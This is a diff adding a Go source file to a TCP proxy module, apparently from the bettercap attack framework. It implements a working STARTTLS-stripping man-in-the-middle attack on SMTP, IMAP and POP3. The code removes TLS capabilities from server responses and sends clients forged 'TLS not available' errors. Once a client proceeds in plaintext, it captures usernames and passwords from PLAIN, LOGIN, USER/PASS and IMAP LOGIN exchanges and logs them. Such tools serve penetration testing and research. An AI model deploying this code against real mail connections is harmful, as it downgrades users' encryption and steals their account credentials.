@@ -0,0 +1,383 @@
+package tcp_proxy
+
+import (
+	"bufio"
+	"encoding/base64"
+	"io"
+	"net"
+	"regexp"
+	"strings"
+	"sync"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+var (
+	imapCapsToStrip = regexp.MustCompile(`(?i)\s+(STARTTLS|LOGINDISABLED)\b`)
+	smtpStarttls    = regexp.MustCompile(`(?i)^250[ -]STARTTLS\s*$`)
+)
+
+// StarttlsEvent is pushed when a victim proceeds in plaintext after the
+// STARTTLS capability has been stripped and when it sends credentials.
+type StarttlsEvent struct {
+	Protocol string `json:"protocol"`
+	Client   string `json:"client"`
+	Server   string `json:"server"`
+	Username string `json:"username"`
+	Password string `json:"password"`
+}
+
+type starttlsStripper struct {
+	// serializes the writes to the client, since both pipes can write to it
+	sync.Mutex
+	// protects the protocol state shared by the two pipes
+	state    sync.Mutex
+	mod      *TcpProxy
+	client   net.Addr
+	server   net.Addr
+	toClient io.Writer
+	proto    string
+	strip    bool
+	stripped bool
+	proceed  bool
+	// message being transferred and the commands that start a transfer
+	transfer *mailTransfer
+	smtpData bool
+	pop3Retr bool
+	// pending SMTP multiline response
+	smtpLines []string
+	// pending SASL exchange
+	auth     string
+	username string
+}
+
+func (s *starttlsStripper) writeClient(data string) error {
+	s.Lock()
+	defer s.Unlock()
+	_, err := s.toClient.Write([]byte(data))
+	return err
+}
+
+func (s *starttlsStripper) event(what string, username, password string) {
+	s.mod.Session.Events.Add("tcp.proxy.starttls."+what, StarttlsEvent{
+		Protocol: s.proto,
+		Client:   s.client.String(),
+		Server:   s.server.String(),
+		Username: username,
+		Password: password,
+	})
+}
+
+func (s *starttlsStripper) detect(line string) {
+	switch {
+	case strings.HasPrefix(line, "220"):
+		s.proto = "smtp"
+	case strings.HasPrefix(line, "* OK"):
+		s.proto = "imap"
+	case strings.HasPrefix(line, "+OK"):
+		s.proto = "pop3"
+	default:
+		s.proto = "unknown"
+	}
+	s.mod.Debug("%s speaks %s", s.server, s.proto)
+}
+
+// fromServer filters a line sent by the server, returning what has to be forwarded to the client.
+func (s *starttlsStripper) fromServer(line string) string {
+	trimmed := strings.TrimRight(line, "\r\n")
+	if s.proto == "" {
+		s.detect(trimmed)
+	}
+
+	// messages are forwarded as they are
+	if s.mailFromServer(line) || !s.strip {
+		return line
+	}
+
+	wasStripped := s.stripped
+	defer func() {
+		if s.stripped && !wasStripped {
+			s.mod.Info("stripped STARTTLS from %s response to %s.", s.server, tui.Bold(s.client.String()))
+		}
+	}()
+
+	switch s.proto {
+	case "smtp":
+		// buffer multiline responses so that we can fix the last line if needed
+		if len(trimmed) >= 4 && trimmed[3] == '-' {
+			s.smtpLines = append(s.smtpLines, trimmed)
+			return ""
+		}
+
+		lines := append(s.smtpLines, trimmed)
+		s.smtpLines = nil
+
+		kept := make([]string, 0, len(lines))
+		for _, l := range lines {
+			if smtpStarttls.MatchString(l) {
+				s.stripped = true
+			} else {
+				kept = append(kept, l)
+			}
+		}
+
+		if len(kept) == 0 {
+			return ""
+		} else if last := kept[len(kept)-1]; len(last) >= 4 {
+			// the STARTTLS line could have been the last one of the response
+			kept[len(kept)-1] = last[:3] + " " + last[4:]
+		}
+		return strings.Join(kept, "\r\n") + "\r\n"
+
+	case "imap":
+		if strings.Contains(strings.ToUpper(trimmed), "CAPABILITY") && imapCapsToStrip.MatchString(trimmed) {
+			s.stripped = true
+			return imapCapsToStrip.ReplaceAllString(trimmed, "") + "\r\n"
+		}
+
+	case "pop3":
+		if strings.EqualFold(strings.TrimSpace(trimmed), "STLS") {
+			s.stripped = true
+			return ""
+		}
+	}
+
+	return line
+}
+
+func decodeB64(data string) string {
+	if raw, err := base64.StdEncoding.DecodeString(strings.TrimSpace(data)); err == nil {
+		return string(raw)
+	}
+	return data
+}
+
+func (s *starttlsStripper) onPlainAuth(data string) {
+	// authzid \0 authcid \0 password
+	if parts := strings.Split(decodeB64(data), "\x00"); len(parts) == 3 {
+		s.onCredentials(parts[1], parts[2])
+	}
+}
+
+func (s *starttlsStripper) onCredentials(username, password string) {
+	s.mod.Warning("%s credentials from %s: %s %s",
+		strings.ToUpper(s.proto),
+		tui.Bold(s.client.String()),
+		tui.Yellow(username),
+		tui.Red(password))
+	s.event("credentials", username, password)
+}
+
+func unquote(arg string) string {
+	if len(arg) >= 2 && arg[0] == '"' && arg[len(arg)-1] == '"' {
+		return strings.Replace(arg[1:len(arg)-1], `\"`, `"`, -1)
+	}
+	return arg
+}
+
+// saslStep handles a line sent by the client in the middle of an AUTH exchange.
+func (s *starttlsStripper) saslStep(trimmed string) {
+	switch s.auth {
+	case "plain":
+		s.onPlainAuth(trimmed)
+		s.auth = ""
+	case "login-user":
+		s.username = decodeB64(trimmed)
+		s.auth = "login-pass"
+	case "login-pass":
+		s.onCredentials(s.username, decodeB64(trimmed))
+		s.auth = ""
+	}
+}
+
+func (s *starttlsStripper) saslStart(mechanism, initial string) {
+	switch strings.ToUpper(mechanism) {
+	case "PLAIN":
+		if initial != "" {
+			s.onPlainAuth(initial)
+		} else {
+			s.auth = "plain"
+		}
+	case "LOGIN":
+		if initial != "" {
+			s.username = decodeB64(initial)
+			s.auth = "login-pass"
+		} else {
+			s.auth = "login-user"
+		}
+	}
+}
+
+func (s *starttlsStripper) onProceed(command string) {
+	if s.stripped && !s.proceed {
+		switch command {
+		case "", "EHLO", "HELO", "CAPA", "CAPABILITY", "NOOP", "QUIT", "LOGOUT", "STARTTLS", "STLS":
+			return
+		}
+		s.proceed = true
+		s.mod.Info("%s client %s proceeded in plaintext with %s.", strings.ToUpper(s.proto), tui.Bold(s.client.String()), s.server)
+		s.event("downgraded", "", "")
+	}
+}
+
+// fromClient filters a line sent by the client, returning what has to be forwarded
+// to the server and what has to be sent back to the client in its place.
+func (s *starttlsStripper) fromClient(line string) (forward string, reply string) {
+	if s.transferLine(line, true) {
+		return line, ""
+	}
+
+	trimmed := strings.TrimRight(line, "\r\n")
+	if s.auth != "" {
+		s.saslStep(trimmed)
+		return line, ""
+	}
+
+	fields := strings.Fields(trimmed)
+	if len(fields) == 0 {
+		return line, ""
+	}
+
+	switch s.proto {
+	case "smtp", "pop3":
+		command := strings.ToUpper(fields[0])
+		s.onProceed(command)
+
+		switch {
+		case command == "DATA" && s.proto == "smtp":
+			s.smtpData = true
+		case command == "RETR" && s.proto == "pop3":
+			s.pop3Retr = true
+		case command == "STARTTLS" && s.proto == "smtp" && s.strip:
+			return "", "454 4.7.0 TLS not available due to temporary reason\r\n"
+		case command == "STLS" && s.proto == "pop3" && s.strip:
+			return "", "-ERR TLS not available\r\n"
+		case command == "AUTH" && len(fields) >= 2:
+			initial := ""
+			if len(fields) >= 3 {
+				initial = fields[2]
+			}
+			s.saslStart(fields[1], initial)
+		case command == "USER" && len(fields) >= 2:
+			s.username = fields[1]
+		case command == "PASS" && len(fields) >= 2:
+			s.onCredentials(s.username, strings.TrimSpace(trimmed[4:]))
+		}
+
+	case "imap":
+		if len(fields) < 2 {
+			break
+		}
+
+		tag, command := fields[0], strings.ToUpper(fields[1])
+		s.onProceed(command)
+
+		switch {
+		case command == "STARTTLS" && s.strip:
+			return "", tag + " BAD STARTTLS not available\r\n"
+		case command == "LOGIN" && len(fields) >= 4:
+			s.onCredentials(unquote(fields[2]), unquote(strings.Join(fields[3:], " ")))
+		case command == "AUTHENTICATE" && len(fields) >= 3:
+			initial := ""
+			if len(fields) >= 4 {
+				initial = fields[3]
+			}
+			s.saslStart(fields[2], initial)
+		}
+	}
+
+	return line, ""
+}
+
+func (mod *TcpProxy) starttlsPipe(from, to net.Addr, src io.Reader, dst io.Writer, filter func(string) string, wg *sync.WaitGroup) {
+	defer wg.Done()
+
+	reader := bufio.NewReader(src)
+	for {
+		line, err := reader.ReadString('\n')
+		if line != "" {
+			data := []byte(filter(line))
+			if mod.script != nil && len(data) > 0 {
+				if ret := mod.script.OnData(from, to, data); ret != nil {
+					data = ret
+				}
+			}
+
+			if len(data) > 0 {
+				if _, werr := dst.Write(data); werr != nil {
+					mod.Warning("write failed: %s", werr)
+					return
+				}
+			}
+		}
+
+		if err != nil {
+			if err != io.EOF {
+				mod.Warning("read failed: %s", err)
+			}
+			return
+		}
+	}
+}
+
+func (mod *TcpProxy) stripStarttls(client, remote *net.TCPConn) {
+	s := &starttlsStripper{
+		mod:      mod,
+		client:   client.RemoteAddr(),
+		server:   remote.RemoteAddr(),
+		toClient: client,
+		strip:    mod.starttls,
+	}
+
+	wg := sync.WaitGroup{}
+	wg.Add(2)
+
+	go func() {
+		mod.starttlsPipe(s.client, s.server, client, remote, func(line string) string {
+			s.state.Lock()
+			forward, reply := s.fromClient(line)
+			s.state.Unlock()
+			if reply != "" {
+				mod.Info("refused STARTTLS from %s", tui.Bold(s.client.String()))
+				if err := s.writeClient(reply); err != nil {
+					mod.Warning("write failed: %s", err)
+				}
+			}
+			return forward
+		}, &wg)
+		// unblock the other side
+		remote.CloseWrite()
+	}()
+
+	go func() {
+		mod.starttlsPipe(s.server, s.client, remote, lockedWriter{s, client}, func(line string) string {
+			s.state.Lock()
+			defer s.state.Unlock()
+			return s.fromServer(line)
+		}, &wg)
+		client.CloseWrite()
+	}()
+
+	wg.Wait()
+
+	// the connection was closed in the middle of a transfer
+	if s.transfer != nil {
+		s.transfer.truncated = true
+		s.endTransfer()
+	}
+
+	if s.stripped && !s.proceed {
+		mod.Info("%s client %s did not proceed in plaintext.", strings.ToUpper(s.proto), s.client)
+	}
+}
+
+type lockedWriter struct {
+	s *starttlsStripper
+	w io.Writer
+}
+
+func (l lockedWriter) Write(p []byte) (int, error) {
+	l.s.Lock()
+	defer l.s.Unlock()
+	return l.w.Write(p)
+}